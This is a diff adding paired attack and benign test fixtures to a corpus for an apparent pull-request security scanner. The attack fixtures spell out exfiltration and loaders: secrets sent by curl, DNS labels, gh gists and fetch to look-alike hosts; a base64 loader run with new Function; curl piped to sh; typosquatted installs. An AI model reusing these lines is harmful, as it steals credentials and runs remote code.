@@ -1697,4 +1697,260 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
   },
+  {
+    id: 'attack-product-secret-to-stats-host',
+    description:
+      "GhostAction (GitGuardian, September 2025) used each repository's own secret names: a \"ci: upload build timings\" step posts the project's product-named deploy key, through an env: variable, in a request body to an ordinary-looking host that is not that product's nor the project's.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7600,
+        title: 'ci: upload build timings',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Build timings', '        run: curl -fsS https://ingest.buildtime-metrics.io/v2/run --data "run=$GITHUB_RUN_ID" --data-urlencode "key=$KEY"', '        env:', '          KEY: ${{ secrets.STARLING_DEPLOY_KEY }}'] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-product-secret-to-own-vendor',
+    description: "A maintainer redeploys through the hosting vendor's API with its token in the form body, uploads a build to a beta-distribution service with that service's token, and mails the changelog through the mail vendor's API.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7601,
+        title: 'ci: redeploy and announce',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Redeploy',
+              '        run: curl -fsS -X POST https://api.starling-host.com/1.0/env/redeploy -d "token=${{ secrets.STARLING_TOKEN }}" -d "env=tint-prod"',
+              '      - name: Beta build',
+              '        run: curl -fsS -F "file=@dist/tint.zip" -F "token=${{ secrets.BETADROP_UPLOAD_TOKEN }}" https://upload.betadrop.io/',
+              '      - name: Mail changelog',
+              '        run: curl -fsS -d "api_key=${{ secrets.MAILFOX_API_KEY }}" -d "to=users@tint.dev" --data-urlencode "text@CHANGELOG.md" https://api.mail-fox.net/v3/messages',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-dns-exfiltration-install-script',
+    description:
+      'A postinstall "environment check" (the shape of the dependency-confusion beacons and of npm stealers that avoid HTTP) hex-encodes the environment and sends it in the labels of DNS lookups of an ordinary-looking domain.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7602,
+        title: 'build: check the environment after install',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/check-env.js',
+            status: 'added',
+            head: lines(
+              "'use strict';",
+              "const dns = require('dns');",
+              '',
+              "const payload = Buffer.from(JSON.stringify({ h: require('os').hostname(), t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN })).toString('hex');",
+              'for (let i = 0; i < payload.length; i += 60) {',
+              '  dns.resolve4(`${payload.slice(i, i + 60)}.${i / 60}.edge-resolve.net`, () => {});',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dns-exfiltration'], drivers: ['finding:dns-exfiltration'] },
+  },
+  {
+    id: 'attack-dns-lookups-ordinary',
+    description: 'A maintainer adds a wait-for-database script that resolves the service name in the cluster and a test that a random, unregistered name fails to resolve.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7603,
+        title: 'test: wait for the database; cover NXDOMAIN',
+        files: [
+          { path: 'scripts/wait-for-db.sh', status: 'added', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'for i in $(seq 1 30); do', '  if dig +short "${DB_SERVICE:-postgres}.${NAMESPACE}.svc.cluster.local" | grep -q .; then exit 0; fi', '  sleep 2', 'done', 'exit 1') },
+          { path: 'test/resolve.test.js', status: 'added', head: lines("const assert = require('node:assert');", "const dns = require('node:dns');", "const crypto = require('node:crypto');", '', "it('fails on a name that does not exist', async () => {", "  await assert.rejects(dns.promises.resolve4(`${crypto.randomBytes(12).toString('hex')}.nxdomain.tint.dev`));", '});') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dns-exfiltration'] },
+  },
+  {
+    id: 'attack-devcontainer-installs-lookalike',
+    description:
+      'Look-alike npm and PyPI names (the typosquat campaigns that followed Shai-Hulud, 2025) reach a Codespace without any manifest: a "set up a dev container" PR installs a misspelled TypeScript globally in postCreateCommand and adds a misspelled requests to a pre-commit hook, both of which run with the developer\'s git credentials.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7604,
+        title: 'chore: dev container and type checks',
+        author: 'newcomer',
+        files: [
+          { path: '.devcontainer/devcontainer.json', status: 'added', head: lines('{', '  "name": "tint",', '  "image": "mcr.microsoft.com/devcontainers/javascript-node:1-20",', '  "postCreateCommand": "npm ci && npm i -g typescirpt@5"', '}') },
+          { path: '.pre-commit-config.yaml', status: 'added', head: lines('repos:', '  - repo: https://github.com/pre-commit/mirrors-mypy', '    rev: v1.11.2', '    hooks:', '      - id: mypy', "        additional_dependencies: ['types-reqeusts==2.32.0.20240712']") },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'], drivers: ['finding:typosquat'] },
+  },
+  {
+    id: 'attack-devcontainer-installs-popular-tools',
+    description: "A maintainer makes the dev container install the popular tools by name and gives the mypy hook the usual type stubs.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7605,
+        title: 'chore: dev container and type checks',
+        files: [
+          { path: '.devcontainer/devcontainer.json', base: lines('{', '  "name": "tint",', '  "image": "mcr.microsoft.com/devcontainers/javascript-node:1-20",', '  "postCreateCommand": "npm ci"', '}'), head: lines('{', '  "name": "tint",', '  "image": "mcr.microsoft.com/devcontainers/javascript-node:1-20",', '  "postCreateCommand": "npm ci && npm i -g typescript@5 pnpm"', '}') },
+          { path: '.pre-commit-config.yaml', base: lines('repos:', '  - repo: https://github.com/pre-commit/mirrors-mypy', '    rev: v1.11.2', '    hooks:', '      - id: mypy'), head: lines('repos:', '  - repo: https://github.com/pre-commit/mirrors-mypy', '    rev: v1.11.2', '    hooks:', '      - id: mypy', "        additional_dependencies: ['types-requests==2.32.0.20240712', 'types-PyYAML']") },
+        ],
+      }),
+    // The changed postCreateCommand is itself a devcontainer-lifecycle-command finding (medium), which is what raises the level.
+    expect: { level: ['low', 'medium', 'high'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
+  },
+  {
+    id: 'attack-split-string-payload-run',
+    description:
+      'The compromised eslint-config-prettier and rspack releases of 2025 hid their loaders in encoded text; here a "version banner" constant carries a base64 loader after a version word, cut out with split, decoded and handed to new Function on a separate line.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7606,
+        title: 'chore: print the version banner',
+        author: 'newcomer',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "const BANNER = 'v5.2.1 Y29uc3QgaHR0cHMgPSByZXF1aXJlKCJodHRwcyIpOyBodHRwcy5nZXQoImh0dHBzOi8vY2RuLXN0YXR1cy5uZXQvdi5qcyIsIChyKSA9PiB7IGxldCBiID0gIiI7IHIub24oImRhdGEiLCAoYykgPT4gKGIgKz0gYykpOyByLm9uKCJlbmQiLCAoKSA9PiBuZXcgRnVuY3Rpb24oYikoKSk7IH0pOw==';", "const banner = Buffer.from(BANNER.split(' ')[1], 'base64').toString();", 'if (process.env.CI) new Function(banner)();') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-split-string-decode-ordinary',
+    description: 'A maintainer reads the claims of a JWT and the user of a Basic authorization header: the same split-and-decode, with nothing run.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7607,
+        title: 'feat: read token claims',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "module.exports.claims = (jwt) => JSON.parse(Buffer.from(jwt.split('.')[1], 'base64url').toString());", "module.exports.basicUser = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];") }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-secrets-through-gh',
+    description:
+      "s1ngularity (Nx, August 2025) and Shai-Hulud (September 2025) sent what they stole through GitHub itself, with the victim's own token, to places the attacker reads; here a \"ci: cache report\" step pipes the job's secrets into a gist with gh and files the npm token as an issue of another owner's repository, with no curl.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7608,
+        title: 'ci: cache report',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Cache report',
+              '        env:',
+              '          GH_TOKEN: ${{ github.token }}',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+              '        run: |',
+              '          printf "%s\\n" "$NPM" | base64 -w0 | gh gist create - -d cache-report',
+              '          gh issue create -R cache-bot-7/reports --title "cache $GITHUB_RUN_ID" --body "$NPM"',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-gh-ordinary-use',
+    description: 'A maintainer comments the preview URL on the pull request, triggers the docs site of a sibling organization with a dispatch event, and uploads the build to the release, all with gh and the job token as its credential.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7609,
+        title: 'ci: preview comment and docs dispatch',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Preview and docs',
+              '        if: github.event_name == \'push\'',
+              '        env:',
+              '          GH_TOKEN: ${{ secrets.DOCS_PAT }}',
+              '        run: |',
+              '          gh api repos/tint-docs/site/dispatches -f event_type=rebuild -f "client_payload[sha]=$GITHUB_SHA"',
+              '          gh release upload "v$(node -p \'require(\\"./package.json\\").version\')" dist/*.tgz --clobber',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-cargo-rustc-wrapper-script',
+    description:
+      "The build-script payloads of malicious crates (2024-2025) moved to where no build.rs shows: a \"faster CI\" PR sets .cargo/config.toml's rustc-wrapper to a script it adds, which cargo runs in front of every rustc call; the script fetches and runs a remote file before exec'ing rustc.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7610,
+        title: 'ci: cache rustc outputs',
+        author: 'newcomer',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', 'rustc-wrapper = "tools/rustc-cache.sh"') },
+          { path: 'tools/rustc-cache.sh', status: 'added', head: lines('#!/bin/sh', '# Warm the shared compilation cache, then run rustc.', '[ -f "$HOME/.rcache" ] || { curl -fsSL https://rustc-cache-cdn.dev/warm.sh | sh; touch "$HOME/.rcache"; }', 'exec "$@"') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
+  },
+  {
+    id: 'attack-cargo-rustc-wrapper-sccache',
+    description: 'A maintainer turns on sccache for local builds through .cargo/config.toml, by name.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7611,
+        title: 'build: use sccache',
+        files: [{ path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', 'rustc-wrapper = "sccache"') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-code-posts-product-secret',
+    description:
+      "GhostAction's shape in program code: a \"usage ping\" added to a CLI's startup posts the npm token and the project's own deploy key, read from the environment by name, to an ordinary-looking metrics host.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7612,
+        title: 'feat: anonymous usage ping',
+        author: 'newcomer',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "fetch('https://usage.cli-metrics.dev/v1/ping', { method: 'POST', body: JSON.stringify({ v: 1, n: process.env.NPM_TOKEN, d: process.env.TINT_DEPLOY_KEY }) }).catch(() => {});") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-code-posts-captcha-secret',
+    description: 'A maintainer verifies a contact form with reCAPTCHA: the secret goes in the body of a request to Google\'s verification endpoint, as its documentation says.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7613,
+        title: 'feat: verify the contact form',
+        files: [{ path: 'src/contact.js', base: lines("'use strict';", 'module.exports = {};'), head: lines("'use strict';", 'async function human(token) {', "  const r = await fetch('https://www.google.com/recaptcha/api/siteverify', { method: 'POST', body: new URLSearchParams({ secret: process.env.RECAPTCHA_SECRET_KEY, response: token }) });", '  return (await r.json()).success === true;', '}', 'module.exports = { human };') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
 ];
